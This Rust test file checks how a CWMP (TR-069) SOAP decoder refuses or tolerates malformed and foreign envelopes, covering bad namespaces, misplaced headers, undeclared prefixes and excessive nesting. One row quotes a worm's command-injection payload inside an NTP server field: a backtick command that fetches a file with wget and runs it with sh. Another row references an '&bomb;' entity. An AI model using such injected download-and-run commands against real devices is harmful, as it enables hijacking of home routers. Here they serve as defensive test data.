//! What is no envelope of CWMP.

use crate::{
    row::{Row, row},
    support::{envelope, soap},
};
use cwmp_codec::{Clause, Level, xml};

const RESPONSE: &str = "<cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes></cwmp:InformResponse>";

/// Refused by every decoder.
fn refused() -> Vec<Row> {
    vec![
        row("nothing", "¶", Clause::Empty),
        row("white space", "¶ \r\n\t", Clause::Empty),
        row("HTML", "¶<html><body/></html>", Clause::NotSoap),
        row(
            "an envelope of SOAP 1.2",
            "¶<e:Envelope xmlns:e='http://www.w3.org/2003/05/soap-envelope'/>",
            Clause::NotSoap,
        ),
        row("an envelope of another namespace", "¶<Envelope xmlns='urn:x'><Body/></Envelope>", Clause::NotSoap),
        row(
            "what a worm sends to the port of TR-069",
            &envelope(
                "¶<u:SetNTPServers xmlns:u='urn:dslforum-org:service:Time:1'>\
                 <NewNTPServer1>`cd /tmp;wget http://example.com/1;sh 1`</NewNTPServer1></u:SetNTPServers>",
            ),
            Clause::NotCwmp,
        ),
        row("an RPC of another namespace", &envelope("¶<x:Inform xmlns:x='urn:x'/>"), Clause::NotCwmp),
        row("an element in no namespace that CWMP does not have", &envelope("¶<Dance/>"), Clause::NotCwmp),
        row("no body", &soap("¶"), Clause::BodyMissing),
        row("a header only", &soap("<soap-env:Header/>¶"), Clause::BodyMissing),
        row("an empty body", &soap("<soap-env:Body>¶</soap-env:Body>"), Clause::BodyEmpty),
        row("a document type declaration", "¶<!DOCTYPE x><x/>", Clause::Xml(xml::Clause::Doctype)),
        row(
            "an end tag that is another's",
            &envelope("<cwmp:FactoryReset></¶cwmp:Reboot>"),
            Clause::Xml(xml::Clause::TypeMatch),
        ),
        row("a prefix that is not declared", &envelope("<¶x:FactoryReset/>"), Clause::Xml(xml::Clause::PrefixDeclared)),
        row(
            "a document that ends early",
            &envelope(RESPONSE).replace("</soap-env:Envelope>", "¶"),
            Clause::Xml(xml::Clause::Truncated),
        ),
        row("something behind it", &format!("{}¶x", envelope(RESPONSE)), Clause::Xml(xml::Clause::OutsideRoot)),
        row("a second envelope", &format!("{}¶<a/>", envelope(RESPONSE)), Clause::Xml(xml::Clause::SecondRoot)),
        row("deep nesting", &envelope(&format!("<cwmp:X>{}¶<a>", "<a>".repeat(13))), Clause::Xml(xml::Clause::Depth)),
    ]
}

/// Refused by a strict decoder, accepted by a lenient one.
fn tolerated() -> Vec<Row> {
    let header = |element: &str| {
        soap(&format!("<soap-env:Header>{element}</soap-env:Header><soap-env:Body>{RESPONSE}</soap-env:Body>"))
    };
    vec![
        row(
            "an entity",
            &envelope("<cwmp:Reboot><CommandKey>¶&bomb;</CommandKey></cwmp:Reboot>"),
            Clause::Xml(xml::Clause::EntityDeclared),
        ),
        row("two RPCs", &envelope(&format!("{RESPONSE}¶{RESPONSE}")), Clause::OneRpc),
        row("an RPC and a fault", &envelope(&format!("{RESPONSE}¶<soap-env:Fault/>")), Clause::OneRpc),
        row(
            "a header behind the body",
            &soap(&format!("<soap-env:Body>{RESPONSE}</soap-env:Body>¶<soap-env:Header/>")),
            Clause::HeaderPlace,
        ),
        row(
            "two bodies",
            &soap(&format!("<soap-env:Body>{RESPONSE}</soap-env:Body>¶<soap-env:Body/>")),
            Clause::HeaderPlace,
        ),
        row(
            "two headers",
            &soap(&format!("<soap-env:Header/>¶<soap-env:Header/><soap-env:Body>{RESPONSE}</soap-env:Body>")),
            Clause::HeaderPlace,
        ),
        row(
            "an element before the body",
            &soap(&format!("¶<cwmp:ID>1</cwmp:ID><soap-env:Body>{RESPONSE}</soap-env:Body>")),
            Clause::HeaderPlace,
        ),
        row(
            "a header element of another, to be understood",
            &header("¶<x:A xmlns:x='urn:x' soap-env:mustUnderstand='1'/>"),
            Clause::MustUnderstand,
        ),
        row(
            "a header element of CWMP that there is not, to be understood",
            &header("¶<cwmp:Dance soap-env:mustUnderstand='1'/>"),
            Clause::MustUnderstand,
        ),
        row(
            "the same for the next actor",
            &header(
                "¶<cwmp:Dance soap-env:actor='http://schemas.xmlsoap.org/soap/actor/next' soap-env:mustUnderstand='1'/>",
            ),
            Clause::MustUnderstand,
        ),
        row("an ID twice", &header("<cwmp:ID>1</cwmp:ID>¶<cwmp:ID>1</cwmp:ID>"), Clause::ElementRepeated),
        row(
            "a header element that is no boolean",
            &header("<cwmp:HoldRequests>¶yes</cwmp:HoldRequests>"),
            Clause::Boolean,
        ),
        row(
            "a header element that is no number",
            &header("<cwmp:SessionTimeout>¶30s</cwmp:SessionTimeout>"),
            Clause::Number,
        ),
        row("text in the header", &header("¶x"), Clause::TextUnexpected),
        row(
            "text in the envelope",
            &soap(&format!("¶x<soap-env:Body>{RESPONSE}</soap-env:Body>")),
            Clause::TextUnexpected,
        ),
        row("text in the body", &envelope(&format!("¶x{RESPONSE}")), Clause::TextUnexpected),
        row("text behind the RPC", &envelope(&format!("{RESPONSE}¶x")), Clause::TextUnexpected),
    ]
}

pub(crate) fn rows() -> Vec<Row> {
    [refused(), tolerated()].concat()
}

#[test]
fn what_is_no_envelope_is_refused() {
    refused().iter().for_each(Row::is_refused);
}

#[test]
fn what_is_read_anyway_is_tolerated_by_the_lenient() {
    tolerated().iter().for_each(Row::is_tolerated);
}

#[test]
fn what_is_somebody_elses_is_not_malformed() {
    for clause in [Clause::Empty, Clause::NotSoap, Clause::NotCwmp] {
        assert_eq!(clause.level(), Level::Foreign);
    }
    assert_eq!(Clause::Xml(xml::Clause::TypeMatch).level(), Level::Malformed);
    assert_eq!(Clause::Xml(xml::Clause::Depth).level(), Level::Limit);
}
